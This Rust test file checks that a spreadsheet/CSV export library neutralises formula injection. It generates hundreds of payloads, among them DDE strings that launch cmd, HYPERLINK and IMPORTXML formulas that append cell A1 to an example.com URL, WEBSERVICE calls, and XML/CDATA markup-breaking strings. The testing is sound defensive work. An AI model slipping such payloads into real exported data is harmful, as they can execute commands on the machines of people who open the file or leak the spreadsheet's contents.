use std::io::Cursor;

use calamine::{Data, Reader as _, Xlsx};
use steward_export::{Cell, CsvWriter, Table as _};

use super::{part, read, written};

/// What a cell might begin with …
const BEGINNINGS: [&str; 18] = [
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    "\"=",
    "{=",
    "\u{feff}=",
    "\u{200b}=",
    "",
];

/// … and go on.
const ENDINGS: [&str; 17] = [
    "1+1",
    "HYPERLINK(\"http://example.com?\"&A1,\"here\")",
    "cmd|' /C calc'!A0",
    "DDE(\"cmd\",\"/C calc\",\"x\")",
    "WEBSERVICE(\"http://example.com\")",
    "IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")",
    "SUM(A1:A9)*0",
    "</t></is></c><c r=\"A9\"><f>1+1</f><v>2</v></c>",
    "<f>1+1</f>",
    "&lt;f&gt;1+1&lt;/f&gt;",
    "]]><f>1+1</f><![CDATA[",
    "<!--",
    "_x003D_1+1",
    "_x003C_f_x003E_1+1",
    "\0<f>1</f>",
    "\u{202e}1+1",
    "&f;",
];

pub fn payloads() -> Vec<String> {
    BEGINNINGS.iter().flat_map(|begin| ENDINGS.iter().map(move |end| format!("{begin}{end}"))).collect()
}

#[test]
fn no_payload_becomes_a_formula() {
    let payloads = payloads();
    assert!(payloads.len() >= 300);
    let rows: Vec<_> = payloads.iter().map(|text| vec![Cell::Text(text), Cell::Number(text)]).collect();
    let bytes = written(&["text", "number"], &rows);
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f ") && !sheet.contains("<!"));
    assert_eq!(sheet.matches("<c ").count(), 2 * rows.len() + 2, "no cell besides");
    let formulas = Xlsx::new(Cursor::new(&bytes)).unwrap().worksheet_formula("Sheet1").unwrap();
    assert!(formulas.rows().flatten().all(String::is_empty));
    let cells = read(&bytes, "Sheet1");
    assert_eq!(cells.len(), rows.len() + 1);
    assert!(cells.iter().flatten().all(|cell| matches!(cell, Data::String(_))), "every one is text");
}

/// A name of a column is anybody's in a file that isn't ours.
#[test]
fn no_name_becomes_a_formula() {
    let payloads = payloads();
    let names: Vec<&str> = payloads.iter().map(String::as_str).collect();
    let sheet = part(&written(&names, &[]), "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>"));
    assert_eq!(sheet.matches("<c ").count(), names.len());
}

/// The same payloads in CSV, where a formula is only what stands in front.
#[test]
fn every_payload_that_begins_a_formula_is_guarded_in_csv() {
    for text in payloads() {
        let mut bytes = Vec::new();
        let mut csv = CsvWriter::new(&mut bytes, true);
        csv.row([text.as_str()]).unwrap();
        csv.end().unwrap();
        drop(csv);
        let written = String::from_utf8(bytes).unwrap();
        assert!(
            !written
                .trim_start_matches('"')
                .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n']),
            "{text:?}"
        );
    }
}
